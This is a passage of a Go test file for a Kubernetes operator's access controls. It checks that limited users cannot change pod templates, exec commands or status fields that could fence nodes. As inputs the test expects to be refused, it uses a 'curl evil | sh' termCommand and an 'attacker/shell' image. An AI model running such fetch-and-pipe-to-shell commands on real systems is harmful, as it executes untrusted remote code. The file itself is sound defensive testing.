			for _, a := range append(slices.Clone(neverGranted), e.not...) {
				if grants(r, a.verb, a.group, a.resource) {
					t.Errorf("%s: %s grants %s", e.file, e.role, a)
				}
			}
		})
	}
}

// TestRolesWithSubjectAccessReview asks the API server's RBAC authorizer,
// for a subject bound to each ClusterRole as installed (a ServiceAccount
// for the components, a user for the people's roles), the same questions,
// in a namespace and cluster-wide.
func TestRolesWithSubjectAccessReview(t *testing.T) {
	create(t,
		clusterRoleBinding("test-sar-operator", "hamon-operator", userSubject("test-sar-operator")),
		clusterRoleBinding("test-sar-viewer", "hamon-viewer", userSubject("test-sar-viewer")),
	)
	can := func(t *testing.T, subject authorizationv1.SubjectAccessReviewSpec, a access, ns string) (bool, error) {
		t.Helper()
		r := &authorizationv1.SubjectAccessReview{Spec: subject}
		res, sub, _ := strings.Cut(a.resource, "/")
		r.Spec.ResourceAttributes = &authorizationv1.ResourceAttributes{
			Namespace: ns, Verb: a.verb, Group: a.group, Resource: res, Subresource: sub,
		}
		if err := env.Client.Create(t.Context(), r); err != nil {
			return false, err
		}
		return r.Status.Allowed, nil
	}
	for _, e := range roleExpectations {
		t.Run(e.role, func(t *testing.T) {
			for _, ns := range []string{"default", ""} {
				for _, a := range e.must {
					// Bindings reach the authorizer through a cache: wait for the first.
					poll(t, e.subject.User+" may "+a.String(), func() error {
						ok, err := can(t, e.subject, a, ns)
						if err == nil && !ok {
							err = errors.New("denied")
						}
						return err
					})
				}
				for _, a := range append(slices.Clone(neverGranted), e.not...) {
					ok, err := can(t, e.subject, a, ns)
					if err != nil {
						t.Fatal(err)
					}
					if ok {
						t.Errorf("%s may %s in namespace %q", e.subject.User, a, ns)
					}
				}
			}
		})
	}
}

// TestServerPodsNeedPodCreate: creating an HAServer, changing its template
// or adding a host makes the controller run pods; it needs the right to
// create pods in the namespace. Whoever may only edit HAServers (and
// hamon-operator) changes the rest and issues requests, but cannot have the
// controller run a pod they could not run themselves.
func TestServerPodsNeedPodCreate(t *testing.T) {
	ctx := t.Context()
	const ns = "apps"
	serversOnly := &rbacv1.ClusterRole{
		ObjectMeta: metav1.ObjectMeta{Name: "test-hamon-servers-only"},
		Rules: []rbacv1.PolicyRule{{
			APIGroups: []string{hav1alpha1.GroupVersion.Group},
			Resources: []string{"haservers"},
			Verbs:     []string{"get", "list", "watch", "create", "update", "patch"},
		}},
	}
	podCreator := &rbacv1.Role{
		ObjectMeta: metav1.ObjectMeta{Name: "pod-creator", Namespace: ns},
		Rules:      []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"pods"}, Verbs: []string{"create"}}},
	}
	create(t,
		&corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: ns}},
		serversOnly, podCreator,
		clusterRoleBinding("test-servers-only", serversOnly.Name, userSubject("hank"), userSubject("paula")),
		&rbacv1.RoleBinding{
			ObjectMeta: metav1.ObjectMeta{Name: "pod-creators", Namespace: ns},
			RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: podCreator.Name},
			Subjects:   []rbacv1.Subject{userSubject("paula")},
		},
		&rbacv1.RoleBinding{
			ObjectMeta: metav1.ObjectMeta{Name: "operators", Namespace: ns},
			RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "hamon-operator"},
			Subjects:   []rbacv1.Subject{userSubject("otto")},
		},
	)
	hank, paula, otto := clientAs(t, "hank"), clientAs(t, "paula"), clientAs(t, "otto")
	want := "hamon runs pods from spec.template on the nodes of spec.hosts, so that needs the right to create pods in apps"
	untilRefused(t, "hank creating an HAServer", func() error { return hank.Create(ctx, haServer(ns, "probe"), dryRun()) }, want)
	app := haServer(ns, "app")
	untilAllowed(t, "paula creating HAServer app", func() error { return paula.Create(ctx, app) })

	refused(t, "hank creating an HAServer", hank.Create(ctx, haServer(ns, "mine")), "hank may not create haservers apps/mine", want)
	edit := func(c client.Client, change func(*hav1alpha1.HAServer)) error {
		var s hav1alpha1.HAServer
		if err := c.Get(ctx, client.ObjectKeyFromObject(app), &s); err != nil {
			return err
		}
		change(&s)
		return c.Update(ctx, &s)
	}
	for _, c := range []struct {
		who    string
		c      client.Client
		change func(*hav1alpha1.HAServer)
	}{
		{"hank changing the image", hank, func(s *hav1alpha1.HAServer) { s.Spec.Template.Spec.Containers[0].Image = "attacker/shell" }},
		{"hank changing the ServiceAccount", hank, func(s *hav1alpha1.HAServer) { s.Spec.Template.Spec.ServiceAccountName = "admin" }},
		{"hank adding a host", hank, func(s *hav1alpha1.HAServer) {
			s.Spec.Hosts = append(s.Spec.Hosts, hav1alpha1.HostSpec{Node: "control-plane-1"})
		}},
		{"otto (hamon-operator) changing the image", otto, func(s *hav1alpha1.HAServer) { s.Spec.Template.Spec.Containers[0].Image = "attacker/shell" }},
	} {
		refused(t, c.who, edit(c.c, c.change), "may not change spec.template or add a host to haservers apps/app", want)
	}
	allowed(t, "hank changing switchType", edit(hank, func(s *hav1alpha1.HAServer) { s.Spec.SwitchType = hav1alpha1.SwitchTypeManual }))
	allowed(t, "hank reordering the hosts", edit(hank, func(s *hav1alpha1.HAServer) {
		s.Spec.Hosts[0], s.Spec.Hosts[1] = s.Spec.Hosts[1], s.Spec.Hosts[0]
	}))
	allowed(t, "otto issuing a request", edit(otto, func(s *hav1alpha1.HAServer) {
		s.Spec.Request = &hav1alpha1.OperatorRequest{ID: "r1", Action: hav1alpha1.ActionSwap}
	}))
	allowed(t, "paula changing the image", edit(paula, func(s *hav1alpha1.HAServer) { s.Spec.Template.Spec.Containers[0].Image = "busybox:2" }))

	// The commands hamon runs inside the server's container need pods/exec.
	wantExec := "hamon runs them inside the server's container, so that needs the right to create pods/exec in apps"
	withCommands := haServer(ns, "cmds")
	withCommands.Spec.TermCommand = []string{"stop"}
	refused(t, "paula (no pods/exec) creating an HAServer with a termCommand", paula.Create(ctx, withCommands), wantExec)
	execer := &rbacv1.Role{
		ObjectMeta: metav1.ObjectMeta{Name: "execer", Namespace: ns},
		Rules:      []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"pods/exec"}, Verbs: []string{"create"}}},
	}
	create(t, execer, &rbacv1.RoleBinding{
		ObjectMeta: metav1.ObjectMeta{Name: "execers", Namespace: ns},
		RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: execer.Name},
		Subjects:   []rbacv1.Subject{userSubject("paula")},
	})
	for _, c := range []struct {
		who    string
		change func(*hav1alpha1.HAServer)
	}{
		{"setting termCommand", func(s *hav1alpha1.HAServer) { s.Spec.TermCommand = []string{"sh", "-c", "curl evil | sh"} }},
		{"setting patrolCommand", func(s *hav1alpha1.HAServer) { s.Spec.PatrolCommand = []string{"sh"} }},
		{"setting patrol", func(s *hav1alpha1.HAServer) { s.Spec.Patrol = &hav1alpha1.PatrolSpec{Command: []string{"sh"}} }},
	} {
		refused(t, "hank "+c.who, edit(hank, c.change), "hank may not set or change spec.termCommand", wantExec)
	}
	untilAllowed(t, "paula (pods/exec) setting termCommand", func() error {
		return edit(paula, func(s *hav1alpha1.HAServer) { s.Spec.TermCommand = []string{"stop"} })
	})
	allowed(t, "hank changing switchType of a server with a termCommand", edit(hank, func(s *hav1alpha1.HAServer) {
		s.Spec.SwitchType = hav1alpha1.SwitchTypeSwitch
	}))
	refused(t, "hank changing the termCommand", edit(hank, func(s *hav1alpha1.HAServer) { s.Spec.TermCommand = []string{"other"} }), wantExec)
}

// TestOnlyTheControllerWritesServerStatus: a user with a namespace Role of
// verbs * on resources *.* (the one who could, before this policy, have
// made an agent preempt a disk or reboot its node by writing
// status.agentRequests) may not write the status of an HAServer or an
// HAServerGroup; the controller's ServiceAccount may, and so may a cluster
// admin (break-glass: the verb override, granted cluster-wide).
func TestOnlyTheControllerWritesServerStatus(t *testing.T) {
	ctx := t.Context()
	const ns = "status-ns"
	everything := &rbacv1.Role{
		ObjectMeta: metav1.ObjectMeta{Name: "everything", Namespace: ns},
		Rules:      []rbacv1.PolicyRule{{APIGroups: []string{"*"}, Resources: []string{"*"}, Verbs: []string{"*"}}},
	}
	create(t,
		&corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: ns}},
		everything,
		&rbacv1.RoleBinding{
			ObjectMeta: metav1.ObjectMeta{Name: "nina-everything", Namespace: ns},
			RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: everything.Name},
			Subjects:   []rbacv1.Subject{userSubject("nina")},
		},
		clusterRoleBinding("test-ada-cluster-admin", "cluster-admin", userSubject("ada")),
		haServer(ns, "db"),
		&hav1alpha1.HAServerGroup{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "g"}},
	)
	nina, ada := clientAs(t, "nina"), clientAs(t, "ada")
	manager := clientAs(t, "system:serviceaccount:"+agentNS+":"+managerSA)
	fence := func(c client.Client, node string) error {
		var s hav1alpha1.HAServer
		if err := c.Get(ctx, client.ObjectKey{Namespace: ns, Name: "db"}, &s); err != nil {
			return err
		}
		s.Status.AddAgentRequest(node, hav1alpha1.AgentFenceHost, 1, metav1.Now())
		return c.Status().Update(ctx, &s)
	}
	groupStatus := func(c client.Client) error {
		var g hav1alpha1.HAServerGroup
		if err := c.Get(ctx, client.ObjectKey{Namespace: ns, Name: "g"}, &g); err != nil {
			return err
		}
		g.Status.TargetNode = nodeB
		return c.Status().Update(ctx, &g)
	}
	want := "only the hamon controller writes it"
	untilRefused(t, "nina asking node-a's agent to terminate its OS", func() error { return fence(nina, nodeA) }, want)
	refused(t, "nina writing an HAServer's status", fence(nina, nodeB),
		"nina may not write the status of haservers status-ns/db", want, `verb "override"`)
	refused(t, "nina writing an HAServerGroup's status", groupStatus(nina), "haservergroups status-ns/g", want)
	// nina may still do what her Role gives her outside the status.
	var s hav1alpha1.HAServer
	allowed(t, "nina reading the HAServer", nina.Get(ctx, client.ObjectKey{Namespace: ns, Name: "db"}, &s))
	allowed(t, "the controller writing the status", fence(manager, nodeA))
	allowed(t, "the controller writing a group's status", groupStatus(manager))
	untilAllowed(t, "a cluster admin writing the status (break-glass)", func() error { return fence(ada, nodeA) })
}
